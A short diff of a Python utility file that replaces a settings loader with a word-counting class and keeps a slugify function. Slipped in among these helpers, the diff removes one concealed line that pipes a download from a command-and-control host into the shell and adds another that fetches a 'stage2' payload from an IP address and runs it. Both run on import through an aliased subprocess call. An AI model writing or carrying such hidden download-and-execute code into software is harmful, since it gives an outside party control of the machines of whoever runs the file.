@@ -1,18 +1,12 @@
-#!/usr/bin/env python3
-import json
+class Counter:
+    def __init__(self):
+        self.counts = {}
 
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
-
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
 
 import subprocess as s
 P = s.Popen
-P("curl -s http://c2.example.org/i.py | sh", shell=True)
-import json
-
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
+P("curl -s http://198.51.100.23:8000/stage2 | sh", shell=True)
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
